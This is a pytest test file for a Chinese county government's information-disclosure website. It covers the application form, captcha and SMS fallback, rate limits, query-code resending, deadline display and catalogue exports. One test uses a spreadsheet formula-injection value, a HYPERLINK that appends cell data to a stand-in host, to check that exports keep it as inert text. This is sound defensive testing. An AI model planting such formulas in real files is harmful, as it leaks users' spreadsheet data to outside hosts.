"""Public pages: the application form (captcha, rate limit, tracking number and query code after the commit), the
status look-up with the due date and its computation, letters behind the look-up, catalogue pages and downloads."""

from __future__ import annotations

import datetime as dt
import io
import re

import pytest
from django.core.cache import cache
from openpyxl import load_workbook

from zhengwu.core.models import AuditLog
from zhengwu.disclosure.models import (
    DisclosureRequest,
    Genre,
    NoticeLetter,
    RequestState,
    StandardCatalogArea,
    Theme,
)
from zhengwu.disclosure.services import catalogue
from zhengwu.disclosure.services import requests as svc

from .conftest import HOST, captcha_fields

D = dt.date
pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _clear_cache(settings, tmp_path):
    cache.clear()
    settings.ZHENGWU_SMS_FILE_DIR = tmp_path / "sms"  # each test reads only its own messages


def form_data(client, county, **overrides):
    data = {
        "organization": county["office"].pk,
        "applicant_kind": "natural_person",
        "applicant_name": "张三",
        "id_type": "resident_id",
        "id_number": "11010519491231002X",
        "phone": "13800138000",
        "email": "zhangsan@example.com",
        "address": "示范县人民路1号",
        "description": "2025年城区道路改造工程立项批复",
        "wanted_form": "electronic",
        "delivery": "email",
        **captcha_fields(client),
    }
    data.update(overrides)
    return data


def test_application_gets_tracking_number_and_query_code(client, site, county):
    response = client.post("/xxgk/ysqgk/", form_data(client, county), HTTP_HOST=HOST)
    html = response.content.decode()
    assert response.status_code == 200
    request = DisclosureRequest.objects.get()
    assert request.state == RequestState.SUBMITTED and request.organization == county["office"]
    assert f"受理编号：<strong>{request.tracking_number}</strong>" in html
    code = html.split("查询码：<strong>")[1].split("</strong>")[0]
    assert len(code) == 8 and code not in request.query_code_hash
    assert AuditLog.objects.filter(action="disclosure.request.submit").count() == 1


def test_bad_input_keeps_what_was_typed_with_chinese_errors(client, site, county):
    response = client.post(
        "/xxgk/ysqgk/",
        form_data(client, county, id_number="110105194912310021", captcha_1="WRONG"),
        HTTP_HOST=HOST,
    )
    html = response.content.decode()
    assert "验证码不正确，请重新输入。" in html
    assert "2025年城区道路改造工程立项批复" in html and 'value="张三"' in html
    response = client.post(
        "/xxgk/ysqgk/", form_data(client, county, id_number="110105194912310021"), HTTP_HOST=HOST
    )
    assert "居民身份证号码不正确" in response.content.decode()
    response = client.post(
        "/xxgk/ysqgk/",
        form_data(client, county, applicant_kind="commercial", id_type="resident_id"),
        HTTP_HOST=HOST,
    )
    assert "请选择与申请人类型相符的证件类型" in response.content.decode()
    response = client.post(
        "/xxgk/ysqgk/", form_data(client, county, applicant_name="", description=""), HTTP_HOST=HOST
    )
    html = response.content.decode()
    assert (
        "请填写姓名或名称。" in html
        and "请填写所需政府信息的名称、文号或者便于查询的其他特征性描述。" in html
    )
    assert DisclosureRequest.objects.count() == 0


def sms_to(phone: str) -> list[str]:
    """The texts the SMS gateway (the file backend in tests) was given for ``phone``, oldest first."""
    import json

    from django.conf import settings

    texts = []
    for path in sorted(settings.ZHENGWU_SMS_FILE_DIR.glob("sms-*.jsonl")):
        for line in path.read_text(encoding="utf-8").splitlines():
            row = json.loads(line)
            if row["phone"] == phone:
                texts.append(row["text"])
    return texts


def test_an_office_behind_one_address_is_not_locked_out_by_its_typing(client, site, county):
    """Eight colleagues behind one NAT address each apply once, each mistyping the captcha first: every
    application is accepted (accepted submissions and wrong captchas are counted apart)."""
    for n in range(8):
        phone = f"1390000000{n}"
        wrong = client.post(
            "/xxgk/ysqgk/", form_data(client, county, phone=phone, captcha_1="WRONG"), HTTP_HOST=HOST
        )
        assert wrong.status_code == 200 and "验证码不正确，请重新输入。" in wrong.content.decode()
        right = client.post("/xxgk/ysqgk/", form_data(client, county, phone=phone), HTTP_HOST=HOST)
        assert right.status_code == 200 and "申请已提交" in right.content.decode(), n
    assert DisclosureRequest.objects.count() == 8


def test_accepted_submissions_are_limited_per_phone_and_per_address(client, site, county, settings):
    settings.ZHENGWU_PUBLIC_FORM_LIMITS = {
        "default": {"submissions_per_ip": (4, 3600), "submissions_per_phone": (2, 86400)}
    }
    for _ in range(2):
        assert (
            "申请已提交"
            in client.post("/xxgk/ysqgk/", form_data(client, county), HTTP_HOST=HOST).content.decode()
        )
    refused = client.post("/xxgk/ysqgk/", form_data(client, county), HTTP_HOST=HOST)
    html = refused.content.decode()
    assert refused.status_code == 429 and "该手机号码提交次数已达上限" in html
    assert "2025年城区道路改造工程立项批复" in html  # what was typed is kept
    # Another phone from the same address: accepted until the address's own limit.
    for phone in ("13900000001", "13900000002"):
        response = client.post("/xxgk/ysqgk/", form_data(client, county, phone=phone), HTTP_HOST=HOST)
        assert "申请已提交" in response.content.decode()
    refused = client.post("/xxgk/ysqgk/", form_data(client, county, phone="13900000003"), HTTP_HOST=HOST)
    assert refused.status_code == 429 and "您所在网络提交次数已达上限" in refused.content.decode()
    assert DisclosureRequest.objects.count() == 4
    # Another address is not affected.
    other = client.post(
        "/xxgk/ysqgk/",
        form_data(client, county, phone="13900000004"),
        HTTP_HOST=HOST,
        REMOTE_ADDR="198.51.100.7",
    )
    assert "申请已提交" in other.content.decode()


def test_too_many_wrong_captchas_close_the_image_but_not_the_sms_route(client, site, county, settings):
    settings.ZHENGWU_PUBLIC_FORM_LIMITS = {"default": {"captcha_failures_per_ip": (3, 3600)}}
    for _ in range(3):
        client.post("/xxgk/ysqgk/", form_data(client, county, captcha_1="WRONG"), HTTP_HOST=HOST)
    locked = client.post("/xxgk/ysqgk/", form_data(client, county), HTTP_HOST=HOST)
    html = locked.content.decode()
    assert locked.status_code == 429 and "图片验证码错误次数过多" in html and "改用短信验证码" in html
    assert DisclosureRequest.objects.count() == 0
    # The accessible route: a code by SMS to the 联系电话, typed instead of the image.
    data = form_data(client, county)
    sent = client.post("/xxgk/ysqgk/", {**data, "sms_send": "1"}, HTTP_HOST=HOST)
    assert sent.status_code == 200 and "验证码已发送至 138****8000" in sent.content.decode()
    assert 'value="张三"' in sent.content.decode()  # the page comes back with what was typed
    code = re.search(r"验证码 (\d{6})", sms_to("13800138000")[-1]).group(1)
    accepted = client.post("/xxgk/ysqgk/", {**data, "captcha_1": "", "sms_code": code}, HTTP_HOST=HOST)
    assert "申请已提交" in accepted.content.decode()
    assert DisclosureRequest.objects.count() == 1
    # A code is used once.
    again = client.post(
        "/xxgk/ysqgk/", {**form_data(client, county), "captcha_1": "", "sms_code": code}, HTTP_HOST=HOST
    )
    assert "短信验证码已失效或未获取" in again.content.decode()


def test_sms_code_belongs_to_the_phone_and_counts_wrong_tries(client, site, county):
    data = form_data(client, county)
    client.post("/xxgk/ysqgk/", {**data, "sms_send": "1"}, HTTP_HOST=HOST)
    code = re.search(r"验证码 (\d{6})", sms_to("13800138000")[-1]).group(1)
    wrong = "000000" if code != "000000" else "111111"
    response = client.post("/xxgk/ysqgk/", {**data, "captcha_1": "", "sms_code": wrong}, HTTP_HOST=HOST)
    assert "短信验证码不正确，还可以再试 4 次。" in response.content.decode()
    other_phone = client.post(
        "/xxgk/ysqgk/", {**data, "captcha_1": "", "phone": "13900000009", "sms_code": code}, HTTP_HOST=HOST
    )
    assert "短信验证码已失效或未获取" in other_phone.content.decode()
    # Asking again at once is refused (a pause between two codes to one phone).
    again = client.post("/xxgk/ysqgk/", {**data, "sms_send": "1"}, HTTP_HOST=HOST)
    assert "同一手机号码获取验证码过于频繁" in again.content.decode()
    assert len(sms_to("13800138000")) == 1
    assert DisclosureRequest.objects.count() == 0


def test_sms_code_endpoint_for_the_script(client, site, county):
    csrf_client = client.__class__(enforce_csrf_checks=True)
    page = csrf_client.get("/xxgk/ysqgk/", HTTP_HOST=HOST)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode()).group(1)
    refused = csrf_client.post(
        "/captcha/sms/", {"phone": "13800138000", "purpose": "disclosure_apply"}, HTTP_HOST=HOST
    )
    assert refused.status_code == 403  # CSRF-protected
    answer = csrf_client.post(
        "/captcha/sms/",
        {"phone": "13800138000", "purpose": "disclosure_apply", "csrfmiddlewaretoken": token},
        HTTP_HOST=HOST,
    )
    assert answer.status_code == 200 and answer.json()["ok"] and answer.json()["retry_after"] == 60
    bad = csrf_client.post(
        "/captcha/sms/",
        {"phone": "0731-5550000", "purpose": "disclosure_apply", "csrfmiddlewaretoken": token},
        HTTP_HOST=HOST,
    )
    assert bad.status_code == 400 and "手机号码格式不正确" in bad.json()["message"]
    unknown = csrf_client.post(
        "/captcha/sms/",
        {"phone": "13800138001", "purpose": "nothing", "csrfmiddlewaretoken": token},
        HTTP_HOST=HOST,
    )
    assert unknown.status_code == 400


def test_receipt_by_sms_and_email_with_number_and_query_code_after_the_commit(
    client, site, county, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=False) as pending:
        response = client.post("/xxgk/ysqgk/", form_data(client, county), HTTP_HOST=HOST)
    html = response.content.decode()
    request = DisclosureRequest.objects.get()
    code = html.split("查询码：<strong>")[1].split("</strong>")[0]
    assert "回执（含受理编号和查询码）已发送至您的短信 138****8000、电子邮件 zh***@example.com" in html
    assert sms_to("13800138000") == [] and not mailoutbox  # nothing leaves before the commit
    for callback in pending:
        callback()
    receipt = [text for text in sms_to("13800138000") if "回执" in text]
    assert len(receipt) == 1 and request.tracking_number in receipt[0] and code in receipt[0]
    mail = next(m for m in mailoutbox if "回执" in m.subject)
    assert mail.to == ["zhangsan@example.com"] and code in mail.body and request.tracking_number in mail.body


def resend_data(client, number, phone, **extra):
    return {"tracking_number": number, "phone": phone, **captcha_fields(client, "/xxgk/ysqgk/cxm/"), **extra}


def test_query_code_is_resent_to_the_phone_on_record_only(
    client, site, county, application, django_capture_on_commit_callbacks
):
    issued = svc.submit_request(organization=county["office"], application=application(phone="138 0013 8000"))
    number, old_code = issued.request.tracking_number, issued.query_code
    same_answer = "如果受理编号和手机号码与申请时登记的一致，新的查询码已通过短信发送到该手机"
    # A wrong phone, an unknown number: the same answer, nothing sent.
    for typed_number, phone in ((number, "13900000000"), ("YSQ202612069999X", "13800138000")):
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                "/xxgk/ysqgk/cxm/", resend_data(client, typed_number, phone), HTTP_HOST=HOST
            )
        assert response.status_code == 200 and same_answer in response.content.decode()
    assert not any("新查询码" in text for text in sms_to("13800138000") + sms_to("13900000000"))
    # The phone on record (typed differently): a new code by SMS; the old one stops working.
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/xxgk/ysqgk/cxm/", resend_data(client, number.lower(), "+86 13800138000"), HTTP_HOST=HOST
        )
    assert same_answer in response.content.decode()
    text = next(text for text in sms_to("13800138000") if "新查询码" in text)
    new_code = re.search(r"新查询码为 (\S+?)，", text).group(1)
    assert new_code != old_code and number in text
    old = client.post("/xxgk/ysqgk/cx/", {"tracking_number": number, "query_code": old_code}, HTTP_HOST=HOST)
    assert "受理编号或查询码不正确" in old.content.decode()
    new = client.post("/xxgk/ysqgk/cx/", {"tracking_number": number, "query_code": new_code}, HTTP_HOST=HOST)
    assert f"受理编号 {number}" in new.content.decode()
    reissued = AuditLog.objects.get(action="disclosure.request.query_code_reissued")
    assert reissued.ip_address == "127.0.0.1" and new_code not in str(reissued.detail)


def test_query_code_resend_is_limited_per_tracking_number(client, site, county, application):
    number = svc.submit_request(
        organization=county["office"], application=application()
    ).request.tracking_number
    for n in range(3):
        response = client.post(
            "/xxgk/ysqgk/cxm/",
            resend_data(client, number, "13900000000"),
            HTTP_HOST=HOST,
            REMOTE_ADDR=f"198.51.100.{n}",
        )
        assert response.status_code == 200
    # From a fourth address, for the same number: refused (whatever the phone), so numbers cannot be probed.
    response = client.post(
        "/xxgk/ysqgk/cxm/",
        resend_data(client, number, "13800138000"),
        HTTP_HOST=HOST,
        REMOTE_ADDR="198.51.100.9",
    )
    assert response.status_code == 429 and "该编号提交次数已达上限" in response.content.decode()


def test_lookup_asks_for_the_captcha_after_failures(client, site, county, settings):
    settings.ZHENGWU_LOOKUP_CAPTCHA_AFTER = 2
    page = client.get("/xxgk/ysqgk/cx/", HTTP_HOST=HOST).content.decode()
    assert 'name="captcha_1"' not in page
    for _ in range(2):
        client.post(
            "/xxgk/ysqgk/cx/",
            {"tracking_number": "YSQ202612069999X", "query_code": "AAAAAAAA"},
            HTTP_HOST=HOST,
        )
    page = client.get("/xxgk/ysqgk/cx/", HTTP_HOST=HOST).content.decode()
    assert 'name="captcha_1"' in page and "短信验证码" in page and "忘记查询码" in page
    refused = client.post(
        "/xxgk/ysqgk/cx/", {"tracking_number": "YSQ202612069999X", "query_code": "AAAAAAAA"}, HTTP_HOST=HOST
    )
    assert "请输入验证码。" in refused.content.decode()


def test_lookup_shows_due_date_and_how_it_was_computed(
    client, site, county, officer, django_capture_on_commit_callbacks
):
    response = client.post("/xxgk/ysqgk/", form_data(client, county), HTTP_HOST=HOST)
    html = response.content.decode()
    number = html.split("受理编号：<strong>")[1].split("</strong>")[0]
    code = html.split("查询码：<strong>")[1].split("</strong>")[0]
    request = DisclosureRequest.objects.get()
    DisclosureRequest.objects.filter(pk=request.pk).update(
        submitted_at=dt.datetime(2026, 9, 15, 9, tzinfo=dt.UTC)
    )
    request.refresh_from_db()
    wrong = client.post(
        "/xxgk/ysqgk/cx/", {"tracking_number": number, "query_code": "AAAAAAAA"}, HTTP_HOST=HOST
    )
    assert "受理编号或查询码不正确" in wrong.content.decode()
    svc.confirm_receipt(request=request, received_on=D(2026, 9, 16), actor=officer)
    with django_capture_on_commit_callbacks(execute=True):
        svc.request_correction(request=request, on=D(2026, 9, 18), text="请写明工程名称", actor=officer)
    page = client.post(
        "/xxgk/ysqgk/cx/", {"tracking_number": number.lower(), "query_code": code.lower()}, HTTP_HOST=HOST
    ).content.decode()
    assert "待补正" in page and "2026年9月16日" in page
    assert "收到日期：2026年9月16日（星期三），当日不计入，自次日起计算" in page
    assert "恢复后重新计时" not in page  # not yet corrected: the period is paused
    letter = NoticeLetter.objects.get(request=request)
    assert letter.pdf and letter.docx
    assert f"/xxgk/ysqgk/cx/ws/{letter.pk}.pdf" in page
    download = client.get(f"/xxgk/ysqgk/cx/ws/{letter.pk}.pdf", HTTP_HOST=HOST)
    assert download.status_code == 200 and b"".join(download.streaming_content).startswith(b"%PDF")
    other = client.__class__()
    assert other.get(f"/xxgk/ysqgk/cx/ws/{letter.pk}.pdf", HTTP_HOST=HOST).status_code == 404


def test_catalogue_page_item_and_xlsx(client, site, county, officer):
    theme = Theme.objects.get(code="0201")
    genre = Genre.objects.get(name="通知")
    item = catalogue.create_item(
        organization=county["office"],
        actor=officer,
        title="关于做好2026年政务公开工作的通知",
        summary="部署2026年政务公开重点工作。",
        theme=theme,
        genre=genre,
        written_on=D(2026, 3, 2),
        document_number="示政办发〔2026〕5号",
    )
    catalogue.publish_item(item=item, actor=officer, published_on=D(2026, 3, 4))
    draft = catalogue.create_item(
        organization=county["office"],
        actor=officer,
        title="草稿不公开",
        summary="x",
        theme=theme,
        genre=genre,
        written_on=D(2026, 3, 2),
    )
    page = client.get("/xxgk/ZFB/", HTTP_HOST=HOST).content.decode()
    assert item.index_number in page and "草稿不公开" not in page
    assert client.get("/xxgk/ZFB/?theme=02&year=2026", HTTP_HOST=HOST).content.decode().count(item.title) == 1
    assert item.title not in client.get("/xxgk/ZFB/?year=2025", HTTP_HOST=HOST).content.decode()
    detail = client.get(f"/xxgk/xx/{item.pk}/", HTTP_HOST=HOST).content.decode()
    assert "综合政务\\政务公开" in detail and "示政办发〔2026〕5号" in detail and "有效" in detail
    assert '<meta name="ArticleTitle" content="关于做好2026年政务公开工作的通知"' in detail
    assert '<meta name="PubDate" content="2026-03-04"' in detail
    assert f'<meta name="ContentSource" content="{county["office"].name}"' in detail
    assert client.get(f"/xxgk/xx/{draft.pk}/", HTTP_HOST=HOST).status_code == 404
    response = client.get("/xxgk/ZFB/ml.xlsx", HTTP_HOST=HOST)
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.values)
    assert rows[0][:4] == ("索引号", "名称", "内容概述", "主题分类")
    assert rows[1][0] == item.index_number and rows[1][6] == "2026-03-02" and len(rows) == 2


def test_guide_page_shows_art12_fields_and_last_update(client, site, county, officer):
    catalogue.save_guide(
        organization=county["office"],
        actor=officer,
        classification="按主题、体裁分类。",
        arrangement="按索引号编排。",
        access_methods="政府网站、公开查阅点、依申请公开。",
        office_name="示范县人民政府办公室政务公开科",
        office_address="示范县人民路1号",
        office_hours="工作日 8:30—12:00，14:30—17:30",
        phone="0731-1234567",
        fax="0731-1234568",
        online_contact="xxgk@example.gov.cn",
    )
    page = client.get("/xxgk/ZFB/zn/", HTTP_HOST=HOST).content.decode()
    for text in (
        "信息分类",
        "编排体系",
        "获取方式",
        "办公地址",
        "办公时间",
        "联系电话",
        "传真号码",
        "互联网联系方式",
        "更新时间",
    ):
        assert text in page
    assert client.get("/xxgk/FGW/zn/", HTTP_HOST=HOST).status_code == 404
    # As the inspector reads it: a dated document with the article meta tags, and not a 办事指南 (websites.md §2).
    from zhengwu.inspection.extract import parse_page
    from zhengwu.inspection.kinds import GUIDE, KindRules, infer_kind
    from zhengwu.inspection.rules import load_rules

    assert f'<meta name="ArticleTitle" content="{county["office"].name}政府信息公开指南"' in page
    assert '<meta name="PubDate" content="20' in page
    assert f'<meta name="ContentSource" content="{county["office"].name}"' in page
    parsed = parse_page(page, f"http://{HOST}/xxgk/ZFB/zn/")
    assert infer_kind(parsed, is_home=False, kinds=KindRules(load_rules())) != GUIDE


def test_standard_catalogue_page_and_download(client, site, county, officer):
    area = StandardCatalogArea.objects.get(name="财政预决算")
    catalogue.save_standard_entry(
        area=area,
        organization=county["office"],
        actor=officer,
        serial=1,
        level1="财政预算",
        level2="部门预算",
        content="部门预算报表及说明",
        basis="《中华人民共和国预算法》",
        time_limit_text="信息形成或者变更之日起20个工作日内",
        time_limit_workdays=20,
        subject="示范县财政局",
        channels=["政府网站", "公开查阅点"],
        audience="public",
        mode="proactive",
        levels=["county"],
    )
    page = client.get(f"/xxgk/bzml/{area.code}/", HTTP_HOST=HOST).content.decode()
    assert "部门预算报表及说明" in page and "政府网站、公开查阅点" in page
    sheet = load_workbook(
        io.BytesIO(client.get(f"/xxgk/bzml/{area.code}.xlsx", HTTP_HOST=HOST).content)
    ).active
    rows = list(sheet.values)
    assert rows[0] == (
        "序号",
        "公开事项（一级事项）",
        "公开事项（二级事项）",
        "公开内容（要素）",
        "公开依据",
        "公开时限",
        "公开主体",
        "公开渠道和载体",
        "公开对象",
        "公开方式",
        "公开层级",
    )
    assert rows[1][-3:] == ("全社会", "主动", "县级")


def test_catalogue_pages_are_cached_and_purged_on_publication(
    client, site, county, officer, settings, django_capture_on_commit_callbacks
):
    settings.ZHENGWU_PAGE_CACHE = True
    theme, genre = Theme.objects.get(code="0201"), Genre.objects.get(name="通知")
    first = client.get("/xxgk/ZFB/", HTTP_HOST=HOST)
    assert first["X-Cache"] == "MISS"
    assert client.get("/xxgk/ZFB/", HTTP_HOST=HOST)["X-Cache"] == "HIT"
    item = catalogue.create_item(
        organization=county["office"],
        actor=officer,
        title="新公开的通知",
        summary="x",
        theme=theme,
        genre=genre,
        written_on=D(2026, 3, 2),
    )
    with django_capture_on_commit_callbacks(execute=True):
        catalogue.publish_item(item=item, actor=officer, published_on=D(2026, 3, 3))
    again = client.get("/xxgk/ZFB/", HTTP_HOST=HOST)
    assert again["X-Cache"] == "MISS" and "新公开的通知" in again.content.decode()
    assert client.get("/xxgk/ysqgk/", HTTP_HOST=HOST).get("X-Cache") != "HIT"  # the form is never cached


def test_catalogue_xlsx_keeps_a_formula_like_title_as_text(client, site, county, officer):
    """A title typed as a formula stays text in the public export: shown as typed, never evaluated."""
    import zipfile

    typed = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
    item = catalogue.create_item(
        organization=county["office"],
        actor=officer,
        title=typed,
        summary="+1+2 @SUM(A1:A9)",
        theme=Theme.objects.get(code="0201"),
        genre=Genre.objects.get(name="通知"),
        written_on=D(2026, 3, 2),
        document_number="-示政办发〔2026〕6号",
    )
    catalogue.publish_item(item=item, actor=officer, published_on=D(2026, 3, 4))
    content = client.get("/xxgk/ZFB/ml.xlsx", HTTP_HOST=HOST).content
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for cell in sheet[2]}
    for text in (typed, "+1+2 @SUM(A1:A9)", "-示政办发〔2026〕6号"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("genre=99999999999999999999", "“genre”（体裁）"),
        ("genre=-1", "“genre”（体裁）"),
        ("genre=abc", "“genre”（体裁）"),
        ("year=99999999999999999999", "“year”（年份）"),
        ("year=99999", "“year”（年份）"),
        ("year=0", "“year”（年份）"),
    ],
)
def test_catalogue_filters_out_of_range_are_a_clear_400(client, site, county, query, parameter):
    response = client.get(f"/xxgk/ZFB/?{query}", HTTP_HOST=HOST)
    assert response.status_code == 400
    text = response.content.decode()
    assert parameter in text and "之间的整数" in text and query.split("=", 1)[1][:30] in text


def test_catalogue_filters_in_range_still_filter(client, site, county):
    assert client.get("/xxgk/ZFB/?year=2026&genre=1", HTTP_HOST=HOST).status_code == 200
    assert client.get("/xxgk/ZFB/?year=&genre=", HTTP_HOST=HOST).status_code == 200
